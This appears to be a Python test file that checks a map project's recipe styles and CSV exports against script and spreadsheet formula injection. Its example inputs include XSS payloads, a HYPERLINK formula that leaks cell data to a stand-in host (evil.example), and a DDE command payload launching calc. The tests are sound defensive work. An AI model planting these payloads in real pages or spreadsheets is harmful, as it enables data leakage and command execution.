"""Hostile text where it meets a script or a spreadsheet: recipe styles, CSV cells and headers.

Checked in this process, without a browser: a style a recipe accepts can only be numbers, and every
export cell and header that a spreadsheet would run is neutralised or refused.  Pages are in
tests/test_escaping.py (fast) and tests/test_hostile_pages.py (whole builds in Chromium).
"""

from __future__ import annotations

import copy
import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from geo.contract import LAYER_KINDS
from geo.enrich import enrich
from geo.export.csv_events import write_events_csv
from geo.export.geojson import rfc7946_layers
from geo.recipe import RecipeError, recipe_from_dict
from geo.validate import check_properties
from tests.hostile import FORMULA_START, HOSTILE, as_required_text, base_layers, base_recipes, hostile_text, is_number
from tests.test_escaping import assert_same_shape, pages, route


@HOSTILE
@given(dash=hostile_text)
@example(dash="4 4'});window.__pwned=1;({a:'")
@example(dash="</script><img src=x onerror=alert(1)>")
@example(dash="4\u2028window.__pwned=1")
@example(dash="4 4\n")
def test_free_text_style_never_reaches_a_script(dash):
    """`style.dash_array` is refused unless it is a dash pattern (naming the file and key); whatever is
    accepted leaves every page with the elements and scripts of the page without it."""
    recipes = copy.deepcopy(base_recipes())
    for recipe in recipes.values():
        for layer in recipe["layer"]:
            layer.setdefault("style", {})["dash_array"] = dash
    try:
        for name, data in recipes.items():
            recipe_from_dict(data, f"maps/{name}.toml")
    except RecipeError as exc:
        assert "dash_array" in str(exc) and ".toml" in str(exc), exc
        return
    assert all(c in "0123456789., " for c in dash)
    assert_same_shape(pages(base_layers(), recipes), dash, plain=pages(base_layers(), base_recipes()))


def csv_cells(layers: dict, tmp_path) -> list[str]:
    path = tmp_path / "events.csv"
    write_events_csv(rfc7946_layers(enrich({**base_layers(), **layers}, route())), path)
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for cell in row]


@HOSTILE
@given(values=hostile_text)
@example(values="=1+1")
@example(values='=HYPERLINK("http://evil.example/?leak="&A1,"x")')
@example(values="\t=1")
def test_csv_has_no_formula_cell(values, tmp_path_factory):
    """Every text cell of events.csv that begins with = + - @ tab or CR is neutralised with a leading
    quote, unless it is a number."""
    layers = {"events": copy.deepcopy(base_layers()["events"])}
    for feature in layers["events"]["features"][:6]:
        props = feature["properties"]
        for key in ("name", "summary", "claimed_by", "claimed_by_detail", "place_reported", "notes"):
            props[key] = as_required_text(values)
        props["sources"][0]["outlet"] = as_required_text(values)
    cells = csv_cells(layers, tmp_path_factory.mktemp("csv"))
    assert not [c for c in cells if c.startswith(FORMULA_START) and not is_number(c)]


formula_key = st.tuples(st.sampled_from("=+-@\t\r"), st.from_regex(r"[A-Za-z0-9_(),.!$ ]{0,10}", fullmatch=True)).map(
    "".join
)


@HOSTILE
@given(key=formula_key | hostile_text)
@example(key="=cmd|' /C calc'!A0")
@example(key="-2+3")
@example(key="killed\n")
def test_figure_keys_that_are_not_identifiers_are_refused(key):
    """Figure keys become CSV headers and GeoPackage columns: anything but a lower-case identifier is
    refused naming `figures`, so no header can start a formula."""
    props = copy.deepcopy(base_layers()["events"]["features"][0]["properties"])
    props["figures"] = {**props["figures"], key: 1}
    problems = list(check_properties(props, LAYER_KINDS["events"]))
    identifier = key.isascii() and key[:1].islower() and all(c.islower() or c.isdigit() or c == "_" for c in key)
    assert bool(problems) != identifier, (key, problems)
    if problems:
        assert any("figures" in p for p in problems)


@pytest.mark.parametrize("value", ["-3", "+1.5", "-2e3"])
def test_a_plain_number_stays_a_number(value, tmp_path):
    layers = {"events": copy.deepcopy(base_layers()["events"])}
    layers["events"]["features"][0]["properties"]["claimed_by"] = value
    assert value in csv_cells(layers, tmp_path)
